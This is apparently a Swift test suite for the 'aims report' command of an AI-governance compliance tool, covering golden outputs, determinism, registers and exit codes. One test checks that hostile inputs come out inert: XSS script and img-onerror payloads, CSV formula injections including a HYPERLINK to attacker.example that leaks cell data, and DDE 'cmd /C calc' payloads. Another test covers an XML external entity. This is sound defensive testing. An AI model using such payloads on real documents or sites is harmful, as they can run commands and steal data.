import Foundation
import Testing
@testable import AIMSBridge

/// `aims report` end to end: whole outputs against golden files, formats made inert for hostile
/// values, determinism, registers read back, and the exit codes.
@Suite struct ReportCommandTests {
    /// The Contoso Bank sample exports (inventory, risk register, SoA, evidence log) and the
    /// insurer's legacy 27001:2013 register, whose references reach 42001 through crosswalks.
    static let samples = ["Fixtures/ai-inventory-utf16.txt", "Fixtures/risk-register-emea-cp1252.csv", "Fixtures/soa-controls.csv",
                          "Fixtures/evidence-log.ndjson", "Fixtures/legacy-isms-risks-27001-2013.csv"]
    static let hostile = ["Fixtures/reports/hostile-ai-inventory.csv", "Fixtures/reports/hostile-risk-register.csv",
                          "Fixtures/reports/hostile-soa.csv"]
    static let settings = ["--as-of", "2025-06-30", "--title", "Contoso Bank AIMS", "--include-annex", "iso27001:2022",
                           "--target", "iso42001:2023", "--target", "eu-ai-act:2024"]

    /// Runs `aims report` into a fresh folder and returns the folder and the run.
    private func report(_ inputs: [String], _ arguments: [String]) throws -> (URL, TestSupport.RunResult) {
        let directory = try TestSupport.temporaryDirectory()
        let result = try TestSupport.runAIMS(["report"] + inputs + ["-o", directory.path] + arguments)
        return (directory, result)
    }

    private func files(in directory: URL) throws -> [String] {
        try FileManager.default.contentsOfDirectory(atPath: directory.path).filter { !$0.hasPrefix(".") }.sorted()
    }

    private func text(_ directory: URL, _ name: String) throws -> String {
        try String(contentsOf: directory.appendingPathComponent(name), encoding: .utf8)
    }

    @Test(arguments: ReportFormat.allCases)
    func everyReportMatchesItsGolden(format: ReportFormat) throws {
        let (directory, result) = try report(Self.samples, Self.settings + ["--format", format.rawValue])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 0, "\(result.stderr)")
        let names = try files(in: directory)
        for kind in ReportKind.allCases where format != .csv {
            #expect(names.contains("\(kind.rawValue).\(format.rawValue)"))
        }
        #expect(!names.isEmpty)
        for name in names {
            try TestSupport.assertGolden(try text(directory, name), named: "reports/\(format.rawValue)/\(name)")
        }
    }

    @Test func csvHasOneFilePerTable() throws {
        let (directory, result) = try report(Self.samples, Self.settings + ["--format", "csv"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 0)
        #expect(try files(in: directory) == [
            "gaps-eu-ai-act-2024-groups.csv", "gaps-eu-ai-act-2024.csv", "gaps-iso42001-2023-groups.csv", "gaps-iso42001-2023.csv",
            "integrated.csv", "inventory-obligations.csv", "inventory.csv", "log-rejects.csv", "log-warnings.csv", "log.csv",
            "risks-heatmap-inherent.csv", "risks-heatmap-residual.csv", "risks-unplaced-residual.csv",
            "risks.csv", "soa-iso27001-2022.csv", "soa.csv",
        ])
    }

    @Test func hostileValuesAreInertInEveryFormat() throws {
        let (directory, result) = try report(Self.hostile, ["--as-of", "2025-06-30", "--format", "html", "--format", "md",
                                                            "--format", "csv", "--format", "json"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 0, "\(result.stderr)")
        var escapedSeen = 0
        for name in try files(in: directory) {
            let content = try text(directory, name)
            switch name.split(separator: ".").last! {
            case "html", "md":
                // Markup from the inputs never survives as markup. Looked for in the bytes: as
                // characters, `\u{600}<img` holds no `<img` (its `<` is in the first character).
                let bytes = Array(content.lowercased().utf8)
                func holds(_ text: String) -> Bool {
                    let wanted = Array(text.utf8)
                    return bytes.indices.contains { bytes[$0...].starts(with: wanted) }
                }
                for markup in ["<script", "<img", "<svg onload", "</td></tr></table><h1>", "<!--", "<b>customer"] {
                    #expect(!holds(markup), "\(name) holds raw \(markup)")
                }
                if content.contains("&lt;script&gt;alert(") { escapedSeen += 1 }
                if name.hasSuffix(".md") {
                    #expect(!holds("](javascript:"), "\(name) holds a live link")
                }
            case "csv":
                let rows = try CSVTestReader.rows(content, name: name)
                for row in rows {
                    for cell in row {
                        guard let first = cell.unicodeScalars.first else { continue }
                        #expect(!["=", "+", "-", "@", "\t", "\r"].contains(first), "\(name): cell \(cell) would be evaluated")
                    }
                }
            default:
                // JSON: the values stay data, exactly as the source gave them.
                let object = try JSONSerialization.jsonObject(with: Data(content.utf8))
                #expect(object is [String: Any])
            }
        }
        #expect(escapedSeen >= 4, "the hostile title should appear escaped in the HTML and Markdown risk and inventory reports")
        #expect(try text(directory, "risks.html").contains("\u{600}&lt;img src=x onerror=alert(&#39;prefixed title&#39;)&gt;"))
        #expect(try text(directory, "risks.md").contains("\u{600}&lt;img src=x onerror=alert('prefixed title')&gt;"))
        let risks = try text(directory, "risks.json")
        #expect(risks.contains(#""title" : "<script>alert('risk title')</script>""#))
        let csv = try text(directory, "risks.csv")
        #expect(csv.contains(#""'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Open"")""#))
        #expect(csv.contains("'@SUM(1+1)*cmd|' /C calc'!A0"))
        #expect(try text(directory, "log.csv").contains(",'=cmd|' /C calc'!A0,"))
    }

    @Test func anExternalEntityLeaksIntoNoOutput() throws {
        let (directory, result) = try report(["Fixtures/bad/external-entity.xml"], ["--as-of", "2025-06-30", "--format", "html",
                                                                                   "--format", "md", "--format", "csv", "--format", "json"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 0, "\(result.stderr)")
        let register = try TestSupport.runAIMS(["convert", "Fixtures/bad/external-entity.xml", "--format", "ndjson"])
        #expect(register.stdout.contains("Leak: &xxe;"))
        var outputs = [register.stdout, register.stderr, result.stderr]
        for name in try files(in: directory) { outputs.append(try text(directory, name)) }
        #expect(outputs.count > 20)
        #expect(!outputs.contains { $0.contains("AIMS-SECRET-MARKER") })
    }

    @Test func theRiskSpillFileIsRemoved() throws {
        // Risks go through a temporary file in $TMPDIR while the reports are built.
        let temporary = try TestSupport.temporaryDirectory()
        let directory = try TestSupport.temporaryDirectory()
        defer {
            try? FileManager.default.removeItem(at: temporary)
            try? FileManager.default.removeItem(at: directory)
        }
        let result = try TestSupport.runAIMS(["report"] + Self.samples + ["-o", directory.path, "--format", "csv"] + Self.settings,
                                             environment: ["TMPDIR": temporary.path])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try text(directory, "risks.csv").split(separator: "\r\n").count > 20)
        #expect(try FileManager.default.contentsOfDirectory(atPath: temporary.path).isEmpty)
    }

    @Test func outputIsDeterministic() throws {
        let arguments = Self.settings + ["--format", "html", "--format", "json"]
        let (first, _) = try report(Self.samples, arguments)
        let (second, _) = try report(Self.samples, arguments)
        defer {
            try? FileManager.default.removeItem(at: first)
            try? FileManager.default.removeItem(at: second)
        }
        for name in try files(in: first) {
            #expect(try Data(contentsOf: first.appendingPathComponent(name)) == Data(contentsOf: second.appendingPathComponent(name)),
                    "\(name) differs between runs")
        }
    }

    @Test(arguments: ["json", "ndjson"])
    func aRegisterGivesTheSameReportsAsItsExports(registerFormat: String) throws {
        let work = try TestSupport.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: work) }
        let register = work.appendingPathComponent("register.\(registerFormat)").path
        let converted = try TestSupport.runAIMS(["convert"] + Self.samples + ["-o", register, "--format", registerFormat, "-q"])
        #expect(converted.status == 0, "\(converted.stderr)")
        let arguments = Self.settings + ["--format", "json", "--kind", "soa", "--kind", "integrated", "--kind", "risks",
                                         "--kind", "inventory", "--kind", "gaps"]
        let (fromRegister, first) = try report([register], arguments)
        let (fromExports, second) = try report(Self.samples, arguments)
        defer {
            try? FileManager.default.removeItem(at: fromRegister)
            try? FileManager.default.removeItem(at: fromExports)
        }
        #expect(first.status == 0 && second.status == 0, "\(first.stderr)\(second.stderr)")
        #expect(try files(in: fromRegister) == ["gaps.json", "integrated.json", "inventory.json", "risks.json", "soa.json"])
        for name in try files(in: fromExports) {
            #expect(try text(fromRegister, name) == text(fromExports, name), "\(name) differs")
        }
        // The log of a register names it and still reconciles its sources' counts.
        let (logDirectory, logRun) = try report([register], ["--kind", "log", "--format", "md", "--as-of", "2025-06-30"])
        defer { try? FileManager.default.removeItem(at: logDirectory) }
        #expect(logRun.status == 0)
        let log = try text(logDirectory, "log.md")
        #expect(log.contains("Read as registers: \(register)"))
        #expect(log.contains("- records: **78**") && log.contains("- converted: **78**"))
    }

    @Test func rejectedRecordsAreLoggedWithTheirLocationAndExitOne() throws {
        let (directory, result) = try report(["Fixtures/bad/stray-quote.csv", "Fixtures/soa-controls.csv"],
                                             ["--kind", "log", "--format", "csv", "--as-of", "2025-06-30"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 1, "\(result.stderr)")
        let rejects = try CSVTestReader.rows(try text(directory, "log-rejects.csv"), name: "log-rejects.csv")
        #expect(rejects == [["Where", "Kind", "Reason"],
                            ["Fixtures/bad/stray-quote.csv:3:15", "rejected", "stray quote inside an unquoted field (quote the whole field and double the quote)"],
                            ["Fixtures/bad/stray-quote.csv:5:20", "rejected", "unexpected character after a closing quote"]])
        let sources = try CSVTestReader.rows(try text(directory, "log.csv"), name: "log.csv")
        #expect(sources.dropFirst().map { Array($0[0...5]) } == [["Fixtures/bad/stray-quote.csv", "csv", "generic", "5", "3", "2"],
                                                                ["Fixtures/soa-controls.csv", "csv", "generic", "38", "38", "0"]])
    }

    @Test func systemsSharingAnIdAreWarnedAboutAndLogged() throws {
        // The same CycloneDX ML-BOM in XML and in JSON: two systems and three datasets each.
        let (directory, result) = try report(["Fixtures/profiles/cyclonedx-mlbom.xml", "Fixtures/profiles/cyclonedx-mlbom.json"],
                                             ["--kind", "log", "--kind", "inventory", "--format", "csv", "--as-of", "2025-06-30"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 0, "\(result.stderr)")
        let shared = result.stderr.split(separator: "\n").map(String.init).filter { $0.contains("is also the id of") }
        #expect(shared.count == 5, "\(result.stderr)")
        #expect(shared.first == "Fixtures/profiles/cyclonedx-mlbom.json:11:5: warning: system id 'model-claims-triage' is also the id of the system "
                + "at Fixtures/profiles/cyclonedx-mlbom.xml:8:1: reports link this id to that one; merge the inputs first ('aims merge') if both describe the same system")
        let warnings = try CSVTestReader.rows(try text(directory, "log-warnings.csv"), name: "log-warnings.csv")
        #expect(warnings.filter { $0[2].contains("is also the id of") }.map(\.[0]) == [
            "Fixtures/profiles/cyclonedx-mlbom.json:11:5", "Fixtures/profiles/cyclonedx-mlbom.json:44:5",
            "Fixtures/profiles/cyclonedx-mlbom.json:64:5", "Fixtures/profiles/cyclonedx-mlbom.json:72:5",
            "Fixtures/profiles/cyclonedx-mlbom.json:79:5",
        ])
    }

    @Test func templatesCanBeReplacedByName() throws {
        let templates = try TestSupport.mappingsFolder(["summary.mustache": "<p>{{setTitle}}: {{#reports}}[{{title}}]{{/reports}}</p>\n"])
        defer { try? FileManager.default.removeItem(at: templates) }
        let (directory, result) = try report(["Fixtures/soa-controls.csv"],
                                             ["--kind", "soa", "--title", "<Board>", "--template-dir", templates.path, "--as-of", "2025-06-30"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 0, "\(result.stderr)")
        #expect(try text(directory, "index.html") == "<p>&lt;Board&gt;: [Statement of Applicability]</p>\n")
        #expect(try text(directory, "soa.html").contains("<caption>ISO/IEC 42001:2023 Annex A controls</caption>"))
    }

    @Test func aBrokenTemplateIsReportedAtItsLine() throws {
        let templates = try TestSupport.mappingsFolder(["report.mustache": "<html>\n<body>{{#sections}}\n</body>\n"])
        defer { try? FileManager.default.removeItem(at: templates) }
        let (directory, result) = try report(["Fixtures/soa-controls.csv"], ["--template-dir", templates.path])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 3)
        #expect(result.stderr.contains("\(templates.path)/report.mustache:"), "\(result.stderr)")
        #expect(result.stderr.contains("error: template:"))
        #expect(try files(in: directory).isEmpty)
    }

    @Test func usageErrorsExitTwo() throws {
        for arguments in [["--as-of", "30/06/2025"], ["--as-of", "2025-02-30"], ["--target", "iso99999"], ["--kind", "heatmap"],
                          ["--format", "pdf"], ["--include-annex", "iso9001:2015"], ["--max-links", "-1"]] {
            let (directory, result) = try report(["Fixtures/soa-controls.csv"], arguments)
            defer { try? FileManager.default.removeItem(at: directory) }
            #expect(result.status == 2, "\(arguments): \(result.stderr)")
        }
    }

    @Test func anUnreadableInputExitsThreeAndWritesNothing() throws {
        let (directory, result) = try report(["Fixtures/no-such-file.csv"], ["--as-of", "2025-06-30"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 3)
        #expect(result.stderr.contains("Fixtures/no-such-file.csv:1:1: error:"), "\(result.stderr)")
        #expect(try files(in: directory).isEmpty)
    }

    @Test func aBrokenRegisterIsReportedAtItsLine() throws {
        let work = try TestSupport.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: work) }
        let register = work.appendingPathComponent("register.ndjson")
        try """
        {"kind":"risk","id":"R-1","title":"Fine","refs":[],"extensions":{},"source":"a.csv","locator":{"line":2,"column":1}}
        {"kind":"risk","id":"R-2","inherent":{"likelihood":"High"},"refs":[],"extensions":{},"source":"a.csv","locator":{"line":3,"column":1}}

        """.write(to: register, atomically: true, encoding: .utf8)
        let (directory, result) = try report([register.path], ["--as-of", "2025-06-30"])
        defer { try? FileManager.default.removeItem(at: directory) }
        #expect(result.status == 3)
        #expect(result.stderr.contains("\(register.path):2:1: error: 'likelihood' of risk 'R-2' is not a rating value"), "\(result.stderr)")
    }
}

/// Reads CSV output back through libcsv (the product's own reader), as cells.
enum CSVTestReader {
    static func rows(_ text: String, name: String) throws -> [[String]] {
        var reader = try CSVRecordReader(source: ByteSource(name: name, bytes: Array(text.utf8)), limits: .standard,
                                         diagnostics: DiagnosticList())
        var rows: [[String]] = []
        while let item = try reader.next() {
            guard case .record(let record) = item else { continue }
            if rows.isEmpty { rows.append(record.fields.map(\.path)) }
            rows.append(record.fields.map { $0.value.joined(separator: "\n") })
        }
        return rows
    }
}
